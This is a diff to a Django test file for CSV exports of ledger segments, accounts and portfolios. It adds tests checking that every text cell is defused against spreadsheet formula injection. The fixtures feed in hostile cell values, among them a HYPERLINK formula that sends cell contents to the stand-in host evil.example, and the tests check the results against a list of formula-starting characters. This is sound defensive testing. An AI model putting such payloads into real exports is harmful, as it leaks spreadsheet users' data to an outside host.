@@ -8,6 +8,8 @@ import pytest
 from django.http import StreamingHttpResponse
 from django.urls import reverse
 
+from rest_framework.test import APIClient
+
 from segments.models import Account, Role, Status
 from tests.factories import (
     AccountFactory,
@@ -16,6 +18,7 @@ from tests.factories import (
     SegmentFactory,
     UserFactory,
     member,
+    token_for,
 )
 
 pytestmark = pytest.mark.django_db
@@ -121,7 +124,7 @@ def test_members_export_lists_accounts_then_portfolios(viewer_client, ledger):
         ("portfolio", str(portfolio.pk)),
     ]
     first = rows[0]
-    assert (first["alias"], first["type"], first["asset_code"]) == ("@alice", "deposit", "BRL")
+    assert (first["alias"], first["type"], first["asset_code"]) == ("'@alice", "deposit", "BRL")
     assert (first["portfolio_id"], first["blocked"]) == (str(portfolio.pk), "true")
     assert (first["segment_id"], first["segment_name"]) == (str(segment.pk), "Black")
     assert rows[1]["name"] == "Family"
@@ -133,13 +136,13 @@ def test_members_export_of_one_kind_and_filtered(viewer_client, ledger):
     AccountFactory(ledger=ledger, segment=segment, alias="@bob")
     PortfolioFactory(ledger=ledger, segment=segment)
     rows = read_csv(viewer_client.get(members_url(ledger, segment), {"kind": "accounts"}))
-    assert [r["alias"] for r in rows] == ["@alice", "@bob"]
+    assert [r["alias"] for r in rows] == ["'@alice", "'@bob"]
     rows = read_csv(viewer_client.get(members_url(ledger, segment), {"kind": "portfolios"}))
     assert [r["kind"] for r in rows] == ["portfolio"]
     rows = read_csv(
         viewer_client.get(members_url(ledger, segment), {"kind": "accounts", "q": "bob"})
     )
-    assert [r["alias"] for r in rows] == ["@bob"]
+    assert [r["alias"] for r in rows] == ["'@bob"]
     assert viewer_client.get(members_url(ledger, segment), {"kind": "x"}).status_code == 400
 
 
@@ -184,3 +187,91 @@ def test_members_export_streams_thousands_of_rows(client, organization, ledger):
     assert len(chunks) > 1, "written in chunks, not as one string"
     rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
     assert len(rows) == 2500
+
+
+# --------------------------------------------------------------------------- formulas
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+def assert_no_formula(rows: list[dict[str, str]]) -> None:
+    """No cell of the file starts as a formula (OWASP's list)."""
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(FORMULA_STARTS), (column, value)
+
+
+@pytest.fixture
+def hostile_segment(ledger, users):
+    """A segment whose member account and portfolio carry formulas in every text the API
+    accepts, created through the API as a tenant would; and a portfolio whose texts start
+    with a tab and a carriage return (rows older than the API's text rules)."""
+    api = APIClient()
+    api.credentials(HTTP_AUTHORIZATION=f"Bearer {token_for(users['operator'])}")
+    base = f"/v1/organizations/{ledger.organization_id}/ledgers/{ledger.pk}"
+    segment = api.post(f"{base}/segments", {"name": "+Black", "description": "-1"}, format="json")
+    assert segment.status_code == 201, segment.content
+    portfolio = api.post(f"{base}/portfolios", {"name": "=1+1", "entityId": "@cmd"}, format="json")
+    assert portfolio.status_code == 201, portfolio.content
+    account = api.post(
+        f"{base}/accounts",
+        {
+            "name": "@SUM(1+1)",
+            "type": HYPERLINK,
+            "assetCode": "BRL",
+            "alias": "-2-3",
+            "entityId": "+cmd",
+        },
+        format="json",
+    )
+    assert account.status_code == 201, account.content
+    segment_id = segment.json()["id"]
+    assigned = api.post(
+        f"{base}/segments/{segment_id}/members",
+        {"accountIds": [account.json()["id"]], "portfolioIds": [portfolio.json()["id"]]},
+        format="json",
+    )
+    assert assigned.status_code == 200, assigned.content
+    PortfolioFactory(ledger=ledger, segment_id=segment_id, name="\t=1", entity_id="\r=2")
+    return segment_id
+
+
+def test_members_export_defuses_every_text_cell(viewer_client, ledger, hostile_segment):
+    url = reverse(
+        "exports:segment_members_csv", args=[ledger.organization_id, ledger.pk, hostile_segment]
+    )
+    rows = read_csv(viewer_client.get(url))
+    assert_no_formula(rows)
+    account, portfolio, old_portfolio = rows
+    assert account["type"] == "'" + HYPERLINK
+    assert (account["alias"], account["name"]) == ("'-2-3", "'@SUM(1+1)")
+    assert account["entity_id"] == "'+cmd"
+    assert (account["segment_name"], account["asset_code"]) == ("'+Black", "BRL")
+    assert (portfolio["name"], portfolio["entity_id"]) == ("'=1+1", "'@cmd")
+    assert (old_portfolio["name"], old_portfolio["entity_id"]) == ("'\t=1", "'\r=2")
+
+
+def test_segments_export_defuses_text_and_keeps_numbers(viewer_client, ledger, hostile_segment):
+    SegmentFactory(ledger=ledger, name="Gold", status_description="@now", metadata={"k": "=1"})
+    rows = read_csv(viewer_client.get(segments_url(ledger), {"sort": "name"}))
+    assert_no_formula(rows)
+    black, gold = rows
+    assert (black["name"], black["description"]) == ("'+Black", "'-1")
+    assert (black["accounts"], black["portfolios"]) == ("1", "2"), "numbers stay numbers"
+    assert gold["status_description"] == "'@now"
+    assert gold["metadata"] == '{"k":"=1"}', "a JSON object never starts a formula"
+
+
+def test_admin_member_exports_defuse_every_text_cell(client, ledger, hostile_segment):
+    client.force_login(UserFactory(username="staff", is_staff=True, is_superuser=True))
+    action = client.post(
+        "/admin/segments/segment/",
+        {"action": "export_members_csv", "_selected_action": [hostile_segment]},
+    )
+    page = client.get(f"/admin/segments/segment/{hostile_segment}/members.csv")
+    for response in (action, page):
+        rows = read_csv(response)
+        assert len(rows) == 3
+        assert_no_formula(rows)
+        assert rows[0]["type"] == "'" + HYPERLINK
